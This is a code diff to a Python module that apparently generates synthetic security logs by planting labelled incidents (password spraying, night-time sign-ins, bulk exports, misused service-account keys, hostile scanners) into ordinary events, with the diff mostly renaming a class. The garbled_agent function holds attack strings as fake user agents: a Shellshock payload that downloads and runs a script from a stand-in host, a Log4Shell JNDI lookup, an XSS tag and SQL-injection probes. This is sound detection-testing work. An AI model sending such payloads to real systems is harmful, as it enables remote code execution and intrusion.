@@ -30,8 +30,8 @@ _PEOPLE = ~pc.starts_with(pc.field("user"), "svc-")
 
 
 @dataclass(frozen=True)
-class Scene:
-    """Where an incident is planted."""
+class Background:
+    """The ordinary log that incidents are planted in."""
 
     ordinary: pa.Table
     """The ordinary events, in no order."""
@@ -61,12 +61,12 @@ def plan(rows: int) -> dict[str, list[int]]:
     }
 
 
-def plant(scene: Scene, incidents: dict[str, list[int]]) -> Planted:
+def plant(background: Background, incidents: dict[str, list[int]]) -> Planted:
     """Draw the incidents, by kind and size."""
     planted = Planted([], [], [])
     for kind, sizes in incidents.items():
         for turn, size in enumerate(sizes):
-            planted.rows.extend(_KINDS[kind](scene, turn, size))
+            planted.rows.extend(_KINDS[kind](background, turn, size))
             planted.incidents.extend([f"{kind}-{turn + 1}"] * size)
             planted.kinds.extend([kind] * size)
     return planted
@@ -82,19 +82,19 @@ def mixed(ordinary: pa.Table, planted: Planted) -> tuple[pa.Table, pa.Table]:
     return events, pa.table([ids.take(places), planted.incidents, planted.kinds], schema=LABELS)
 
 
-def password_spraying(scene: Scene, turn: int, size: int) -> list[Row]:
+def password_spraying(background: Background, turn: int, size: int) -> list[Row]:
     """Try a password on many people from one address within minutes; the third one gets in."""
-    rng = scene.rng
+    rng = background.rng
     agents = (
         *("python-requests/2.31.0", "Mozilla/5.0 (Windows NT 6.1; rv:60.0) Gecko/20100101"),
         *(tables()["agents"]["browsers"][0][1], "Go-http-client/2.0"),
     )
-    address, when = _outside(rng), _at(scene, rng.uniform(0, 23.5))
-    users = pc.unique(scene.ordinary.filter(_PEOPLE)["user"]).to_pylist()
+    address, when = _outside(rng), _at(background, rng.uniform(0, 23.5))
+    users = pc.unique(background.ordinary.filter(_PEOPLE)["user"]).to_pylist()
     events = []
     for user in rng.choice(users, size, replace=False):
         when += timedelta(seconds=rng.exponential(9) + 1)
-        event = _one(scene, pc.field("user") == user) | {
+        event = _one(background, pc.field("user") == user) | {
             "timestamp": when,
             "host": None,
             "source_ip": address,
@@ -112,14 +112,14 @@ def password_spraying(scene: Scene, turn: int, size: int) -> list[Row]:
     return events
 
 
-def strange_sign_in(scene: Scene, turn: int, _size: int) -> list[Row]:
-    """Sign somebody in deep in the night from a host and a place that are new to them."""
-    rng = scene.rng
+def strange_sign_in(background: Background, turn: int, _size: int) -> list[Row]:
+    """Sign a person in deep in the night from a host and a place that are new to them."""
+    rng = background.rng
     european = _PEOPLE & (pc.hour(pc.field("timestamp")) < 11)
-    user = _one(scene, european)["user"]
+    user = _one(background, european)["user"]
     hosts = ("DESKTOP-7QK2M1P", "kali", "PC-5510", "android-5f0c11d2", "WIN-9T3VJ0A")
-    address, when = _outside(rng), _at(scene, rng.uniform(1.5, 4.5))
-    event = _one(scene, pc.field("user") == user) | {
+    address, when = _outside(rng), _at(background, rng.uniform(1.5, 4.5))
+    event = _one(background, pc.field("user") == user) | {
         "timestamp": when,
         "host": hosts[turn % 5],
         "source_ip": address,
@@ -134,9 +134,9 @@ def strange_sign_in(scene: Scene, turn: int, _size: int) -> list[Row]:
     return [event]
 
 
-def bulk_export(scene: Scene, turn: int, size: int) -> list[Row]:
-    """Let somebody fetch exports from a new place, each far above what they ever fetched."""
-    rng = scene.rng
+def bulk_export(background: Background, turn: int, size: int) -> list[Row]:
+    """Let a person fetch exports from a new place, each far above what they ever fetched."""
+    rng = background.rng
     action, resource, message = (
         (
             "get_object",
@@ -146,10 +146,10 @@ def bulk_export(scene: Scene, turn: int, size: int) -> list[Row]:
         ("export_report", "/warehouse/finance/ledger_{:03d}", "exported {} bytes, report {:08x}"),
     )[turn % 2]
     done = (pc.field("action") == action) & (pc.field("status") == "success")
-    model = _one(scene, _PEOPLE & done)
-    own = scene.ordinary.filter(pc.field("user") == model["user"])["bytes"]
+    model = _one(background, _PEOPLE & done)
+    own = background.ordinary.filter(pc.field("user") == model["user"])["bytes"]
     most = max(pc.max(own).as_py(), 20_000_000)
-    when, address = _at(scene, rng.uniform(9, 21)), _outside(rng)
+    when, address = _at(background, rng.uniform(9, 21)), _outside(rng)
     events = []
     for place in range(size):
         when += timedelta(seconds=rng.exponential(40) + 5)
@@ -166,19 +166,19 @@ def bulk_export(scene: Scene, turn: int, size: int) -> list[Row]:
     return events
 
 
-def service_admin_call(scene: Scene, turn: int, size: int) -> list[Row]:
+def service_admin_call(background: Background, turn: int, size: int) -> list[Row]:
     """Let a service account's stolen key make an administrator's call from a machine outside."""
-    rng = scene.rng
+    rng = background.rng
     service = ("svc-thumbnails", "svc-dashboards", "svc-mail", "svc-etl-web")[turn % 4]
     action = ("attach_policy", "disable_mfa", "update_trust_policy", "create_user")[turn % 4]
     spec, resource = tables()["actions"][action], ("/iam/roles/harbor", "/iam/users/root")[turn % 2]
-    model = _one(scene, (pc.field("user") == service) & (pc.field("status") == "success"))
+    model = _one(background, (pc.field("user") == service) & (pc.field("status") == "success"))
     message, address = tables()["messages"][action][0], _outside(rng)
     events = []
     for _ in range(size):
         filled = message.format(user=service, number=rng.integers(100, 9_000), resource=resource)
         events.append(
-            _moved(scene, model, rng.uniform(1, 300))
+            _moved(background, model, rng.uniform(1, 300))
             | {
                 "host": None,
                 "source_ip": address,
@@ -192,27 +192,27 @@ def service_admin_call(scene: Scene, turn: int, size: int) -> list[Row]:
     return events
 
 
-def garbled_agent(scene: Scene, turn: int, size: int) -> list[Row]:
-    """Let a scanner outside probe with somebody's name and an attack or rubbish as its agent."""
+def garbled_agent(background: Background, turn: int, size: int) -> list[Row]:
+    """Let a scanner outside probe with a person's name and an attack or rubbish as its agent."""
     agents = (
         "() { :; }; /bin/bash -c 'wget -qO- http://198.51.100.23/a.sh | sh'",
         "sqlmap/1.8.4#stable (https://sqlmap.org)",
         "Mozi\x07\x1b\ufffd\ufffd\x02/\x11\ufffd5.\x7f(\ufffd\ufffd\x0e",
         "${jndi:ldap://203.0.113.66:1389/Basic/Command}<script>alert(1)</script>",
     )
-    model = _one(scene, _PEOPLE) | {
+    model = _one(background, _PEOPLE) | {
         "host": None,
-        "source_ip": _outside(scene.rng),
+        "source_ip": _outside(background.rng),
         "user_agent": agents[turn % 4],
         "resource": ("/cgi-bin/status", "/search/wiki?q=1%27--", "/.env", "/api/v1/login")[
             turn % 4
         ],
         "status": "denied",
     }
-    return [_moved(scene, model, wait) for wait in 45.0 * np.arange(size)]
+    return [_moved(background, model, wait) for wait in 45.0 * np.arange(size)]
 
 
-_KINDS: dict[str, Callable[[Scene, int, int], list[Row]]] = {
+_KINDS: dict[str, Callable[[Background, int, int], list[Row]]] = {
     "password_spraying": password_spraying,
     "strange_sign_in": strange_sign_in,
     "bulk_export": bulk_export,
@@ -221,21 +221,21 @@ _KINDS: dict[str, Callable[[Scene, int, int], list[Row]]] = {
 }
 
 
-def _one(scene: Scene, which: Any) -> Row:
+def _one(background: Background, which: Any) -> Row:
     """Take one of the ordinary events that answer to `which`."""
-    those = scene.ordinary.filter(which)
-    return those.slice(int(scene.rng.integers(len(those))), 1).to_pylist()[0]
+    those = background.ordinary.filter(which)
+    return those.slice(int(background.rng.integers(len(those))), 1).to_pylist()[0]
 
 
-def _at(scene: Scene, hour: float) -> datetime:
+def _at(background: Background, hour: float) -> datetime:
     """Find the hour on some working day."""
-    working = [day for day in range(scene.days) if day % 7 < 5]
-    return scene.first_day + timedelta(days=int(scene.rng.choice(working)), hours=hour)
+    working = [day for day in range(background.days) if day % 7 < 5]
+    return background.first_day + timedelta(days=int(background.rng.choice(working)), hours=hour)
 
 
-def _moved(scene: Scene, event: Row, seconds: float) -> Row:
+def _moved(background: Background, event: Row, seconds: float) -> Row:
     """Repeat an event a little later, but on a day of the log."""
-    last = scene.first_day + timedelta(days=scene.days, seconds=-1)
+    last = background.first_day + timedelta(days=background.days, seconds=-1)
     return event | {"timestamp": min(event["timestamp"] + timedelta(seconds=seconds), last)}
 
 
